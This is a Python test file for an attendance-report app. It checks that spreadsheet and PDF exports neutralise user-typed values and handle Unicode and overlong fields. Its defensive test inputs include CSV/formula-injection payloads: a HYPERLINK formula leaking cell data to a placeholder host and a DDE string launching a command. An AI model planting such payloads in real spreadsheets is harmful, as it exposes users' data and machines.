"""What people type cannot take over or break our documents: no live formulas in spreadsheets,
names in any script print as typed, overlong fields are refused at import and wrapped in PDFs."""

from __future__ import annotations

import ast
import dataclasses
import datetime as dt
import io
import zipfile
from pathlib import Path

from openpyxl import load_workbook
from pypdf import PdfReader

from reports.recap_pdf import render_pdf
from reports.recap_xlsx import render_xlsx
from reports.sla_report import render_sla_report
from services.employee_import import RowError, parse_row
from tests.support.office import PEOPLE, STAFF_A, STAFF_B, STAFF_C
from tests.test_recap_reports import OFFICE, document, october, page_texts

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = {STAFF_A.nip: '=HYPERLINK("https://contoh.invalid/?d="&A1;"Dewi")',
           STAFF_B.nip: "+1+cmd|' /C calc'!A0", STAFF_C.nip: "@SUM(1+1)"}


def test_formula_like_names_are_text_in_the_recap_xlsx() -> None:
    month = october()
    month = dataclasses.replace(month, employees=tuple(
        dataclasses.replace(e, nama=HOSTILE.get(e.nip, e.nama),
                            jabatan="-" + e.jabatan if e.nip == STAFF_A.nip else e.jabatan)
        for e in month.employees))
    data = render_xlsx(OFFICE, month)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml                      # no formula element anywhere
    sheet = load_workbook(io.BytesIO(data))["Rekap Oktober 2026"]
    rows = {row[2].value: row for row in sheet.iter_rows(min_row=5)}
    assert len(rows) == len(PEOPLE)
    for nip, name in HOSTILE.items():
        cell = rows[nip][1]
        assert cell.value == name and cell.data_type == "s" and cell.quotePrefix
    assert rows[STAFF_A.nip][4].value.startswith("-") and rows[STAFF_A.nip][4].quotePrefix


def test_formula_like_units_and_sites_are_text_in_every_recap_sheet() -> None:
    """The streamed workbook guards each row as it is written: the grid, the summary and the
    presensi lokasi sheet alike."""
    unit, site = "=1+2", "@Pos Lapangan"
    month = october()
    month = dataclasses.replace(
        month, located={(STAFF_A.nip, dt.date(2026, 10, 5)): (site,)},
        employees=tuple(dataclasses.replace(e, unit=unit) if e.nip == STAFF_A.nip else e
                        for e in month.employees))
    data = render_xlsx(OFFICE, month)
    archive = zipfile.ZipFile(io.BytesIO(data))
    sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 3
    assert all("<f>" not in archive.read(name).decode() for name in sheets)
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value in (unit, site)]
    # Grid and located sheet: the unit; summary: the unit; located sheet: the site.
    assert sorted(c.value for c in cells) == sorted([unit, unit, unit, site])
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_every_xlsx_is_saved_through_the_one_helper() -> None:
    """A workbook saved anywhere else would skip the formula guard."""
    offenders = []
    for path in [*ROOT.glob("reports/*.py"), *ROOT.glob("services/**/*.py"),
                 *ROOT.glob("handlers/**/*.py"), *ROOT.glob("bot/**/*.py")]:
        if path.name == "spreadsheet.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (isinstance(node, ast.ImportFrom) and node.module == "openpyxl"
                    and any(alias.name == "Workbook" for alias in node.names)):
                offenders.append(str(path.relative_to(ROOT)))
    assert all("workbook_bytes" in (ROOT / p).read_text() for p in offenders), offenders


NON_LATIN = "Nguyễn Thị Ánh · Дмитрий Ковалёв · Ελένη · Łukasz Żółć"


def _fonts(pdf: bytes) -> set[str]:
    found = set()
    for page in PdfReader(io.BytesIO(pdf)).pages:
        for font in page["/Resources"]["/Font"].values():
            found.add(str(font.get_object()["/BaseFont"]))
    return found


def test_recap_and_sla_pdfs_embed_a_unicode_font_and_print_names_as_typed() -> None:
    month = october()
    month = dataclasses.replace(month, employees=tuple(
        dataclasses.replace(e, nama=NON_LATIN) if e.nip == STAFF_A.nip else e
        for e in month.employees))
    pdf = render_pdf(document(month, signed=False))
    assert all("DejaVuSans" in name for name in _fonts(pdf)), _fonts(pdf)
    text = "".join(page_texts(pdf)).replace("\n", " ")
    for word in ("Nguyễn", "Дмитрий", "Ковалёв", "Ελένη", "Żółć"):
        assert word in text, word
    office = dataclasses.replace(OFFICE, name="Дирекция Ελένη Nguyễn")
    sla = render_sla_report(office, 2026, 10, [], dt.datetime(2026, 11, 1, 9, 0,
                                                             tzinfo=OFFICE.timezone))
    assert all("DejaVuSans" in name for name in _fonts(sla))
    assert "ДИРЕКЦИЯ ΕΛΈΝΗ NGUYỄN" in "".join(page_texts(sla))     # the letterhead's capitals


def test_every_pdf_style_uses_the_unicode_font() -> None:
    for path in ROOT.glob("reports/*.py"):
        source = path.read_text(encoding="utf-8")
        assert "Helvetica" not in source or path.name == "fonts.py", path.name


def test_a_2400_character_nama_or_jabatan_still_builds_the_recap() -> None:
    month = october()
    long_nama = "Sri " + "Rahayuningsih " * 171          # about 2,400 characters
    long_jabatan = "X" * 2400                               # one unbroken word
    month = dataclasses.replace(month, employees=tuple(
        dataclasses.replace(e, nama=long_nama) if e.nip == STAFF_A.nip
        else dataclasses.replace(e, jabatan=long_jabatan) if e.nip == STAFF_B.nip else e
        for e in month.employees))
    pdf = render_pdf(document(month, signed=False))
    text = "".join(page_texts(pdf))
    assert "Sri Rahayuningsih" in text and "…" in text
    assert STAFF_A.nip in text and STAFF_B.nip in text
    assert render_xlsx(OFFICE, month)


def test_import_reports_overlong_fields_by_line() -> None:
    raw = dict(zip(("nip", "nama", "jabatan", "golongan", "unit", "atasan_nip", "telepon",
                    "device_user_id", "peran"), STAFF_A.row(), strict=True))
    assert not isinstance(parse_row(7, raw), RowError)
    for column, value in (("jabatan", "J" * 2400), ("nama", "N" * 2400),
                          ("unit", "U" * 151), ("device_user_id", "9" * 30)):
        refused = parse_row(7, {**raw, column: value})
        assert isinstance(refused, RowError) and refused.line == 7, column
        assert f"{column} terlalu panjang ({len(value)} karakter" in refused.reason
